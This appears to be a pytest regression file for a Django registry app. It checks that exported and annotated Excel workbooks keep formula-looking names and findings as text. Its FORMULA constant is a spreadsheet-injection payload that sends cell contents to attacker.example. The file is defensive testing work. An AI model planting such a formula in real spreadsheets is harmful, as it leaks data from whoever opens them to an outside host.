"""Text that looks like a formula leaves the system as text: a target's name, an address or a finding typed (or
imported) as "=HYPERLINK(…)" or "=WEBSERVICE(…)" was written by openpyxl as a live formula into the exports,
the reports to the city and the marked-up error workbook, and ran in Excel on the desk of whoever opened them."""

import datetime
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from shuangsuiji.disclosure.report_books import _sheet
from shuangsuiji.engine.creditcode import complete
from shuangsuiji.registry.models import Target
from shuangsuiji.tabular.annotate import annotated_workbook
from shuangsuiji.tabular.importing import CellError, ImportRejected

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


def formulas(content: bytes) -> list[str]:
    """The ``<f>`` elements of every sheet of an .xlsx."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += [part.split("</f>")[0] for part in archive.read(name).decode().split("<f>")[1:]]
    return found


def test_the_registry_export_keeps_a_formula_looking_name_as_text_and_imports_it_back(tree, users):
    Target.objects.create(credit_code=complete("91130623000000001"), name=FORMULA, address="=1+1",
                          jurisdiction=tree["a"])
    client = Client()
    client.force_login(users["city_admin"])
    content = client.get("/registry/targets/export.xlsx").content
    assert formulas(content) == []
    row = list(load_workbook(io.BytesIO(content)).worksheets[0].values)[1]
    assert row[1] == FORMULA and row[3] == "=1+1"
    upload = io.BytesIO(content)
    upload.name = "export.xlsx"
    response = client.post("/registry/targets/import/", {"file": upload})
    assert response.status_code == 302
    assert Target.objects.get().name == FORMULA


def test_a_report_to_the_city_keeps_a_finding_as_text():
    book = Workbook()
    _sheet(book, "情况明细表", "标题", "副标题", [("序号", "检查对象名称", "发现的问题")], (6, 20, 20),
           [(1, FORMULA, "=2+3"), (2, "正常名称", "—")])
    buffer = io.BytesIO()
    book.save(buffer)
    assert formulas(buffer.getvalue()) == []
    values = list(load_workbook(io.BytesIO(buffer.getvalue()))["情况明细表"].values)
    assert values[3][1:] == (FORMULA, "=2+3")


def test_a_csv_marked_up_for_its_uploader_keeps_its_cells_as_text():
    csv = f'名称,日期\n"{FORMULA.replace(chr(34), chr(34) * 2)}",=1+1\n'.encode()
    rejected = ImportRejected([CellError(2, "日期", "=1+1", "应为日期，如 2021-04-01")])
    content = annotated_workbook(csv, "外来数据.csv", rejected)
    assert formulas(content) == []
    book = load_workbook(io.BytesIO(content))
    assert list(book.worksheets[0].values)[1][:2] == (FORMULA, "=1+1")
    assert any(row[:3] == (2, "日期", "=1+1") for row in book.worksheets[-1].values)


def test_plain_values_still_go_as_they_were():
    book = Workbook()
    _sheet(book, "s", "t", "u", [("a", "b", "c")], (5, 5, 5), [(1, "=", datetime.date(2026, 1, 5))])
    buffer = io.BytesIO()
    book.save(buffer)
    values = list(load_workbook(io.BytesIO(buffer.getvalue()))["s"].values)
    assert values[3] == (1, "=", datetime.datetime(2026, 1, 5))
